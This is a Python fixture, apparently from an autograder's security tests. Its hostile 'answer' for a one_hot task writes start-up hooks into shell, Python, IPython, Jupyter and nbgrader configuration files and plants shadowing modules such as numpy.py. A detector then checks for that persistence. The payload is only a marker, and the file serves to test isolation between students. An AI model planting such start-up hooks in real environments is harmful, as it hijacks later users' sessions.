"""Leaves start-up files of Python, IPython, Jupyter and the shell for the next student."""

ANSWERS = {
    "one_hot": r"""
import os
import site

home = os.path.expanduser("~")
line = "import os; os.environ['ATTACK'] = 'was here'; print('FOUND start-up')"
for path in (
    "sitecustomize.py", "usercustomize.py", "numpy.py", "helpers/__init__.py", "json.py",
    "torch.py", ".ipython/profile_default/startup/00.py", ".pythonrc.py", ".bashrc", ".profile",
    ".ipython/profile_default/ipython_config.py", ".jupyter/jupyter_config.py",
    ".jupyter/nbgrader_config.py", "nbgrader_config.py", ".config/matplotlib/matplotlibrc",
):
    for place in (home, os.getcwd(), "/tmp", site.getusersitepackages(), *site.getsitepackages()):
        try:
            target = os.path.join(place, path)
            os.makedirs(os.path.dirname(target), exist_ok=True)
            with open(target, "w") as file:
                file.write(line)
        except OSError:
            pass


def one_hot(ids, V):
    print("\n".join(told))
    return np.zeros((len(ids), V))
""",
}
FINDER = {
    "one_hot": r"""
import os
import sys

if "ATTACK" in os.environ or "sitecustomize" in sys.modules and "FOUND" in str(sys.modules):
    say("FOUND start-up")
if sys.modules["numpy"].__file__.endswith("numpy.py"):
    say("FOUND numpy.py")
say("LOOKED")


def one_hot(ids, V):
    print("\n".join(told))
    return np.zeros((len(ids), V))
""",
}
